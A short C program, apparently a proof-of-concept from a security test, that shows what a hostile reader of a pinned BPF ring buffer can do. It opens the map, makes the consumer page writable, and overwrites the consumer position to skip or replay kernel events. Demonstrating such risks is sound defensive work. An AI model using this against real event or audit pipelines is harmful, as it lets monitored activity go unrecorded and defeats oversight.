// usage: tamper RING-PIN POSITION
//
// What a hostile member of the read group can do: writes the consumer position of a pinned BPF ring buffer.
// POSITION is a number, or "producer" for where the kernel writes next. Needs no libbpf.
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const long page = sysconf(_SC_PAGESIZE);
	union bpf_attr attr = {0};
	volatile uint64_t *consumer, *producer;
	int ring;

	if (argc != 3)
		return 2;
	attr.pathname = (uint64_t)(uintptr_t)argv[1];
	ring = (int)syscall(SYS_bpf, BPF_OBJ_GET, &attr, sizeof attr);
	if (ring < 0) {
		perror(argv[1]);
		return 1;
	}
	consumer = mmap(NULL, (size_t)page, PROT_READ | PROT_WRITE, MAP_SHARED, ring, 0);
	producer = mmap(NULL, (size_t)page, PROT_READ, MAP_SHARED, ring, page);
	if (consumer == MAP_FAILED || producer == MAP_FAILED) {
		perror("mmap");
		return 1;
	}
	*consumer = strcmp(argv[2], "producer") ? strtoull(argv[2], NULL, 0) : *producer;
	return 0;
}
